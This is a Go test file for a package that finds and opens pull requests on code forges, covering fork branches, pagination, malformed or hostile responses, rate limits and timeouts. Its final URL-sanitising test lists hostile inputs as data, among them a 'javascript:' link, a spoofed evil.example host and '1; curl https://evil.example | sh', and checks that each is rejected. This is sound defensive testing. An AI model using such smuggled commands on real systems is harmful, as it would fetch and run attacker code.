package forge

import (
	"context"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/fleetctl/fleetctl/pkg/api/v1alpha1"
	"github.com/fleetctl/fleetctl/pkg/diag"
)

// answering is what Open needs for a forge whose lists and other answers are what these return.
func answering(t *testing.T, kind v1alpha1.ForgeType, list, other func() (status int, body string)) Options {
	t.Helper()
	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		next := other
		if r.Method == http.MethodGet {
			next = list
		}
		status, body := next()
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(status)
		_, _ = w.Write([]byte(body))
	}))
	t.Cleanup(server.Close)
	remote, err := url.Parse(server.URL + "/platform/fleet.git")
	if err != nil {
		t.Fatal(err)
	}
	return Options{
		Type: kind, Remote: remote, Token: "s3cret",
		CA: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw}),
	}
}

// listed is a pull request in the shapes of the three, from a repository (1 is the one that it is for, 0 one that was deleted).
func listed(t *testing.T, number, from int) string {
	t.Helper()
	head := map[string]any{"ref": "fleetctl/x", "label": "fleetctl/x", "repo_id": from, "repo": map[string]any{"id": from}}
	if from == 0 {
		head["repo_id"], head["repo"] = -1, nil
	}
	content, err := json.Marshal(map[string]any{
		"number": number, "iid": number, "id": 1000 + number, "title": "Do x",
		"html_url": "https://forge.example.com/1", "web_url": "https://forge.example.com/1",
		"head": head, "base": map[string]any{"ref": "main", "repo_id": 1, "repo": map[string]any{"id": 1}},
		"source_branch": "fleetctl/x", "target_branch": "main", "source_project_id": from, "target_project_id": 1, "project_id": 1,
	})
	if err != nil {
		t.Fatal(err)
	}
	return string(content)
}

// A stranger opens a pull request from a fork, whose branch is called as ours would be: it is not the one that shows our change.
func TestForkWithOurBranch(t *testing.T) {
	for _, kind := range v1alpha1.ForgeTypes() {
		t.Run(string(kind), func(t *testing.T) {
			for name, strangers := range map[string][]string{
				"one":            {listed(t, 7, 2)},
				"a deleted fork": {listed(t, 7, 0)},
				"none":           {"null"},
			} {
				made := func() (int, string) { return http.StatusCreated, listed(t, 9, 1) }
				o := answering(t, kind, func() (int, string) { return http.StatusOK, "[" + strings.Join(strangers, ",") + "]" }, made)
				request := Request{Branch: "fleetctl/x", Base: "main", Title: "Do x"}
				if there, err := Find(t.Context(), o, request); err != nil || there != nil {
					t.Errorf("%s: found %+v, %v", name, there, err)
				}
				if got, err := Open(t.Context(), o, request); err != nil || !got.Created || got.Number != 9 {
					t.Errorf("%s: %+v, %v", name, got, err)
				}
				o = answering(t, kind, func() (int, string) {
					return http.StatusOK, "[" + strings.Join(append(strangers, listed(t, 8, 1)), ",") + "]"
				}, made)
				if there, err := Find(t.Context(), o, request); err != nil || there == nil || there.Number != 8 {
					t.Errorf("%s, and ours: found %+v, %v", name, there, err)
				}
			}
		})
	}
}

// Strangers open more pull requests than a page of a list has, and a forge that has more of them for ever.
func TestManyPullRequests(t *testing.T) {
	for _, kind := range v1alpha1.ForgeTypes() {
		t.Run(string(kind), func(t *testing.T) {
			strangers := strings.Repeat(listed(t, 7, 2)+",", 99) + listed(t, 7, 2)
			var pages atomic.Int32
			o := answering(t, kind, func() (int, string) {
				if pages.Add(1) == 3 {
					return http.StatusOK, "[" + listed(t, 8, 1) + "]"
				}
				return http.StatusOK, "[" + strangers + "]"
			}, nil)
			request := Request{Branch: "fleetctl/x", Base: "main", Title: "Do x"}
			if there, err := Find(t.Context(), o, request); err != nil || there == nil || there.Number != 8 {
				t.Errorf("found %+v, %v", there, err)
			}
			pages.Store(3)
			if there, err := Find(t.Context(), o, request); err == nil || !strings.Contains(err.Error(), "more than") {
				t.Errorf("of a list without end: %+v, %v", there, err)
			}
		})
	}
}

// What is no answer of a forge is an error that a person can read.
func TestAnswersThatAreNone(t *testing.T) {
	page := "<!DOCTYPE html><title>Sign in</title>" + strings.Repeat("<p>Sign in</p>", 1<<16)
	for _, kind := range v1alpha1.ForgeTypes() {
		for name, tc := range map[string]struct {
			status int
			body   string
		}{
			"a page":                   {http.StatusOK, page},
			"a page that is an error":  {http.StatusForbidden, page},
			"a long error":             {http.StatusUnprocessableEntity, `{"message":"` + strings.Repeat("no ", 1<<18) + `"}`},
			"nothing":                  {http.StatusOK, ""},
			"null":                     {http.StatusCreated, "null"},
			"an object with nothing":   {http.StatusCreated, "{}"},
			"a number below any":       {http.StatusCreated, listed(t, -1, 1)},
			"a list":                   {http.StatusCreated, "[]"},
			"objects of another shape": {http.StatusCreated, `{"number":{},"iid":[]}`},
		} {
			t.Run(string(kind)+" "+name, func(t *testing.T) {
				o := answering(t, kind, func() (int, string) { return http.StatusOK, "[]" }, func() (int, string) { return tc.status, tc.body })
				made, err := Open(t.Context(), o, Request{Branch: "fleetctl/x", Base: "main", Title: "Do x"})
				if err == nil {
					t.Fatalf("it was taken: %+v", made)
				}
				if n := len(err.Error()); n > 2*maxError {
					t.Errorf("an error of %d bytes", n)
				}
			})
		}
	}
}

// A forge that has a problem, takes no more requests or wants a login: the error says so, and what to do. What the forge repeats of the
// request has no token.
func TestForgeRefuses(t *testing.T) {
	for _, kind := range v1alpha1.ForgeTypes() {
		for status, want := range map[int][2]string{
			http.StatusOK:                  {`answers with the web page "Sign in"`, "wants a login"},
			http.StatusTooManyRequests:     {"429", "again in some minutes"},
			http.StatusInternalServerError: {"500", "or a proxy before it, has a problem"},
			http.StatusBadGateway:          {"502", "or a proxy before it, has a problem"},
			http.StatusForbidden:           {"403", "right to write pull requests"},
		} {
			t.Run(string(kind)+" "+http.StatusText(status), func(t *testing.T) {
				server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
					w.Header().Set("Content-Type", "text/html")
					w.WriteHeader(status)
					_, _ = fmt.Fprintf(w, "<html><title>Sign in</title>you sent %v", r.Header)
				}))
				defer server.Close()
				remote, err := url.Parse(server.URL + "/platform/fleet.git")
				if err != nil {
					t.Fatal(err)
				}
				_, err = Find(t.Context(), Options{
					Type: kind, Remote: remote, Token: "s3cret",
					CA: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw}),
				}, Request{Branch: "fleetctl/x", Base: "main"})
				if err == nil || !strings.Contains(err.Error(), want[0]) || !strings.Contains(diag.Hint(err), want[1]) {
					t.Errorf("%v (%s)", err, diag.Hint(err))
				}
				for _, never := range []string{"s3cret", "<title>"} {
					if strings.Contains(fmt.Sprint(err), never) {
						t.Errorf("%q is in %v", never, err)
					}
				}
			})
		}
	}
}

// A run beside this one opens the pull request between our look and our request: it is the same one, and gets our text.
func TestOpenedMeanwhile(t *testing.T) {
	for _, kind := range v1alpha1.ForgeTypes() {
		for _, status := range []int{http.StatusConflict, http.StatusUnprocessableEntity} {
			t.Run(string(kind)+" "+http.StatusText(status), func(t *testing.T) {
				var refused atomic.Bool
				list := func() (int, string) {
					if refused.Load() {
						return http.StatusOK, "[" + listed(t, 8, 1) + "]"
					}
					return http.StatusOK, "[]"
				}
				other := func() (int, string) {
					if refused.Swap(true) {
						return http.StatusOK, listed(t, 8, 1) // the new text
					}
					return status, `{"message": "there is one for the branch"}`
				}
				r, err := Open(t.Context(), answering(t, kind, list, other), Request{Branch: "fleetctl/x", Base: "main", Title: "Do x"})
				if err != nil || r.Number != 8 || r.Created {
					t.Errorf("%+v, %v", r, err)
				}
				never := func() (int, string) { return http.StatusOK, "[]" }
				_, err = Open(t.Context(), answering(t, kind, never, func() (int, string) { return status, `{"message": "no"}` }),
					Request{Branch: "fleetctl/x", Base: "main", Title: "Do x"})
				if err == nil || !strings.Contains(diag.Hint(err), "settings of the repository") {
					t.Errorf("refused for another reason: %v (%s)", err, diag.Hint(err))
				}
			})
		}
	}
}

// GitHub says 403 of a token that has asked too often. The token has its rights, and time helps.
func TestGitHubRateLimit(t *testing.T) {
	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("X-RateLimit-Limit", "60")
		w.Header().Set("X-RateLimit-Remaining", "0")
		w.Header().Set("X-RateLimit-Reset", "4102444800")
		w.WriteHeader(http.StatusForbidden)
		_, _ = w.Write([]byte(`{"message": "API rate limit exceeded"}`))
	}))
	defer server.Close()
	remote, err := url.Parse(server.URL + "/platform/fleet.git")
	if err != nil {
		t.Fatal(err)
	}
	o := Options{
		Type: v1alpha1.ForgeGitHub, Remote: remote, Token: "s3cret",
		CA: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw}),
	}
	_, err = Find(t.Context(), o, Request{Branch: "fleetctl/x", Base: "main"})
	if err == nil || !strings.Contains(diag.Hint(err), "again in some minutes") {
		t.Errorf("%v (%s)", err, diag.Hint(err))
	}
}

// A forge that takes the request and never answers is given up, and the error says what to do.
func TestForgeHangs(t *testing.T) {
	for _, kind := range v1alpha1.ForgeTypes() {
		t.Run(string(kind), func(t *testing.T) {
			server := httptest.NewTLSServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { <-r.Context().Done() }))
			defer server.Close()
			remote, err := url.Parse(server.URL + "/platform/fleet.git")
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(t.Context(), 100*time.Millisecond)
			defer cancel()
			_, err = Find(ctx, Options{
				Type: kind, Remote: remote, Token: "s3cret",
				CA: pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: server.Certificate().Raw}),
			}, Request{Branch: "fleetctl/x", Base: "main"})
			if err == nil || !strings.Contains(diag.Hint(err), "did not answer in time") {
				t.Errorf("%v (%s)", err, diag.Hint(err))
			}
		})
	}
}

// What a forge calls the address of a pull request is the address of a page, or it is not shown.
func TestAddressOfAPullRequest(t *testing.T) {
	remote := &url.URL{Scheme: "ssh", Host: "git.example.com:2222", Path: "/platform/fleet.git"}
	const repository = "https://git.example.com/platform/fleet"
	for raw, want := range map[string]string{
		"https://git.example.com/platform/fleet/pulls/1":       "https://git.example.com/platform/fleet/pulls/1",
		"https://git.example.com/a b\u202e":                    "https://git.example.com/a%20b%E2%80%AE",
		"https://git.example.com/a\n::error::x":                repository,
		"javascript:alert(1)":                                  repository,
		"1; curl https://evil.example | sh":                    repository,
		"https://git.example.com@evil.example/1":               repository,
		"":                                                     repository,
		"https://git.example.com/" + strings.Repeat("x", 5000): repository,
	} {
		if got := (&PullRequest{Number: 1, URL: raw}).linked(remote).URL; got != want {
			t.Errorf("%.100q: %q, want %q", raw, got, want)
		}
	}
}
